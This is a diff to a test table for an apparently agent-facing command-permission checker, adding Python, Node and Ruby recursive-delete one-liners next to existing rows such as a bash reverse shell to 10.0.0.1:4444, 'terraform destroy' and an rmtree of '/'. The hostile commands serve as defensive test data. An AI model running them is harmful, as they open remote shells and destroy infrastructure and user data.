@@ -69,6 +69,10 @@ describe.each([
   ['terraform destroy -auto-approve', 'deny', 'deny', 'deny'],
   ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'deny', 'deny', 'deny'],
   ['python3 -c "import shutil; shutil.rmtree(\'/\')"', 'deny', 'deny', 'deny'],
+  // A tree whose path is known only at run time, in any language.
+  ['python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])" x', 'ask', 'ask', 'deny'],
+  ['node -e "require(\'fs\').rmSync(require(\'os\').homedir() + \'/x\', {recursive: true})"', 'ask', 'ask', 'deny'],
+  ['ruby -rfileutils -e "FileUtils.rm_rf Dir.home + \'/x\'"', 'ask', 'ask', 'deny'],
 ])('%s', (command, recommended, strict, headless) => {
   test.each([
     ['recommended', recommended],
